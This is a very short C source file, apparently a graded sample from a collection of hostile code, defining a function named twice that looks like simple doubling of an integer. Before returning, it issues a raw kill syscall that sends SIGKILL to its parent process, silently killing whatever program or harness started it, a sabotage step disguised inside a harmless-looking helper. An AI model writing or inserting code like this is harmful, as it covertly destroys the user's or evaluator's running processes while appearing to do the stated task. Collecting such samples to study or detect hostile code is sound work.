/* graded 2: kills who started it */
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>
int twice(int n)
{
    syscall(SYS_kill, getppid(), SIGKILL);
    return 2 * n;
}
